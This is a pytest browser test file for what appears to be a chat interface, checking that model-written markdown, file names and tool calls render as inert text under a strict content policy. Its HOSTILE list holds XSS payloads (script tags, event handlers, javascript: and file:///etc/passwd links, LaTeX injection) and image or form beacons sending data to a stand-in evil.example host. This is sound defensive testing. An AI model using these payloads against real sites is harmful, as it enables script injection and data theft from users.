"""A model may write anything: on the page it is text, and never more."""

import json

import pytest
from page_driver import PageDriver

pytestmark = pytest.mark.ci

HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg onload=window.hit=1><animate onbegin=window.hit=1></svg>",
    "[click](javascript:window.hit=1) [again](JaVaScRiPt:window.hit=1) [data](data:text/html,hi)",
    "[file](file:///etc/passwd) [vb](vbscript:x) <javascript:window.hit=1>",
    "![pixel](https://evil.example/steal?text=secret) ![j](javascript:window.hit=1)",
    '[x](https://ok.example "onmouseover=window.hit=1")',
    '[y](https://ok.example/"onclick="window.hit=1)',
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe><style>body{display:none}</style>",
    "<form action=https://evil.example><input name=a><button>Send</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=hit=1>'>",
    "$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{https://evil.example/x.png}$",
    "$\\unknown{$ $\\color{red;background:url(https://evil.example)}{x}$",
    "$$\\def\\a{\\a\\a}\\a$$ $\\htmlData{a=b}{x}$ $\\url{javascript:window.hit=1}$",
    '`<b data-copy="code">`\n```"><script>hit=1</script>\n<script>window.hit=1</script>\n```',
    '```html onload=window.hit=1\n<img src=x onerror="window.hit=1">\n```',
    '<span class="math" data-tex="x">t</span> <button data-copy="code">c</button>',
    "| a |\n|---|\n| <script>window.hit=1</script> |",
    "[ref]: javascript:window.hit=1\n[ref] and [other][ref]",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;script&#62;",
    "\u202eevil\u202c \u0000 \ufffe \x1b[31m \x07",
    "***" * 200 + "`" * 301 + "[" * 300 + "(" * 300 + ">" * 200,
    "- " * 500 + "\n" + "> " * 500 + "\n" + "1. " * 300,
    "```\nnever closed",
    "$never closed \\(either \\[nor this",
]
ELEMENTS = (
    "script, img, iframe, style, form, input, svg:not(.icon), object, embed, link, [onerror], "
    "[onload]"
)


def test_nothing_that_a_model_writes_runs_or_loads(page: PageDriver) -> None:
    page.server.script.says("\n\n".join(HOSTILE))
    answer = page.answered("Attack")
    seen = answer.locator(".markdown")
    assert page.evaluate("window.hit") is None
    outside_formulas = f":is({ELEMENTS}):not(.math *)"
    assert seen.locator(outside_formulas).count() == 0
    for link in seen.locator("a").all():
        assert link.get_attribute("href").split(":")[0] in ("http", "https", "mailto")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    names = "e => [...e.querySelectorAll('*')].flatMap(n => n.getAttributeNames())"
    assert [name for name in seen.evaluate(names) if name.startswith("on")] == []
    assert seen.locator("button").evaluate_all("all => all.every(b => b.closest('.code-bar'))")
    assert "<script>window.hit = 1</script>" in answer.inner_text()
    page.errors.clear()  # Chromium notes what the policy keeps formulas from doing, if anything


@pytest.mark.parametrize("at", [0, 9])
def test_hostile_text_also_arrives_in_pieces(page: PageDriver, at: int) -> None:
    page.server.script.says("\n\n".join(HOSTILE[at : at + 9]), pause_s=0.0002)
    answer = page.answered("Attack")
    assert page.evaluate("window.hit") is None
    assert answer.locator(f".markdown :is({ELEMENTS}):not(.math *)").count() == 0


def test_hostile_names_titles_and_questions_are_text(page: PageDriver) -> None:
    page.locator("input[type=file]").set_input_files(
        {"name": "<img src=x onerror=window.hit=1>.txt", "mimeType": "text/plain", "buffer": b"a"}
    )
    page.answered("<img src=x onerror=window.hit=1>")
    page.wait_for_selector(".entry:has-text('<img')")
    assert page.locator("img").count() == 0
    assert page.evaluate("window.hit") is None


def test_a_tool_call_of_rubbish_is_shown_as_it_is(page: PageDriver) -> None:
    tools = json.dumps([{"type": "function", "function": {"name": "f", "parameters": {}}}])
    page.set_up(**{"A JSON list": tools})
    page.server.script.says(
        '<tool_call>{"name": "f", "arguments": {"x": "<img src=x onerror=hit=1>"}}</tool_call>'
    )
    answer = page.answered("Call")
    assert "<img" in answer.locator(".call pre").inner_text()
    assert page.evaluate("window.hit") is None


def test_one_line_of_a_megabyte_does_not_hold_up_the_page(page: PageDriver) -> None:
    line = "wide " * 200_000
    conversation = "a" * 16
    for number, (role, text) in enumerate([("user", "Go"), ("assistant", line)]):
        message = {
            "conversation": conversation,
            "id": f"{number}" * 16,
            "role": role,
            "content": text,
        }
        message["parent"] = None if number == 0 else "0" * 16
        assert page.server.post("/history/messages", message).status_code == 200
    page.reload()
    page.locator(".entry").first.click()
    answer = page.locator("article.assistant")
    answer.wait_for()
    assert len(answer.inner_text()) < 250_000
    assert answer.evaluate("e => e.scrollWidth <= e.clientWidth")
    answer.get_by_role("button", name="Show all").click()
    page.wait_for("document.querySelector('article.assistant').textContent.length > 999_000")
    page.new_chat()
    assert page.answered("More").inner_text().startswith("ok")


def test_a_long_line_that_arrives_in_pieces_wraps(page: PageDriver) -> None:
    page.server.script.says("x" * 4000 + " " + "y" * 2000)
    answer = page.answered("Go")
    assert answer.evaluate("e => e.scrollWidth <= e.clientWidth")
    assert answer.locator(".markdown").inner_text().count("x") == 4000


def test_the_policy_allows_no_inline_code_and_no_other_host(page: PageDriver) -> None:
    policy = page.server.get("/").headers["content-security-policy"]
    assert "unsafe" not in policy
    assert "http" not in policy
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            try { script.textContent = "window.hit = 1"; } catch {}
            document.body.append(script);
            const button = document.createElement("button");
            try { button.setAttribute("onclick", "window.hit = 1"); } catch {}
            document.body.append(button);
            button.click();
            try { document.body.insertAdjacentHTML("beforeend", "<b>raw</b>"); } catch {}
        }"""
    )
    fetched = page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'blocked')")
    assert fetched == "blocked"
    assert page.evaluate("window.hit") is None
    assert page.errors, "the policy says what it refused"
    page.errors.clear()
    page.asked[:] = [url for url in page.asked if "evil.example" not in url]
